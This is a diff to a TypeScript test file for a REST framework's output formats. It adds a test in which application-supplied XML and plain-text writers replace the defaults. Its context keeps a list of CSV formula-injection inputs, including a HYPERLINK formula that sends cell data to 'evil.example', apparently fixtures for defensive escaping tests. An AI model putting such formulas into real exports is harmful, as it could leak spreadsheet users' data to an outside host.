@@ -3,9 +3,12 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { reportCsv } from '../../examples/orders/print.ts'
 import { t } from '../../src/contract/field.ts'
+import { implement } from '../../src/contract/implement.ts'
+import { anyone, resource, service } from '../../src/index.ts'
 import { writeCsv } from '../../src/rest/formats/csv.ts'
 import { writeHtml } from '../../src/rest/formats/html.ts'
 import { finishSteps } from '../../src/service/turns.ts'
+import { startHosted } from '../host/hosted-service.ts'
 import { json, order, startOrders } from './orders-over-rest.ts'
 
 const formulas = ['=HYPERLINK("http://evil.example"&A1)', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1']
@@ -66,4 +69,19 @@ test('HTML §4.10.7 a choice that may be absent has an empty option, and one tha
   const options = '<option>x</option><option>y</option></select>'
   assert.ok(text.includes(`<select name="must" required>${options}`), text)
   assert.ok(text.includes(`<select name="may"><option></option>${options}`), text)
+})
+
+test('A1.6 a writer of the application replaces ours for its media type, and stands behind the others', async () => {
+  const notes = resource('notes', { fields: { id: t.id('n'), text: t.string() } }).rules({
+    allow: { read: [anyone], create: [anyone] },
+  })
+  const formats = { 'application/xml': () => '<own/>', 'text/plain': () => 'own text' }
+  const app = implement(service('notes', { namespace: 'urn:n', resources: [notes] }), { notes: { formats } })
+  const { ask } = await startHosted({}, app)
+  const made = await ask('POST', '/api/v1/notes', { 'content-type': 'application/json' }, '{"text":"a"}')
+  const get = (accept: string) => ask('GET', String(made.fields['location']), { accept })
+  assert.equal((await get('application/xml')).text, '<own/>')
+  assert.equal((await get('text/plain')).text, 'own text')
+  assert.match((await get('text/html')).text, /^<!doctype html>/i)
+  assert.match(String((await get('*/*')).fields['content-type']), /^application\/hal\+json/)
 })
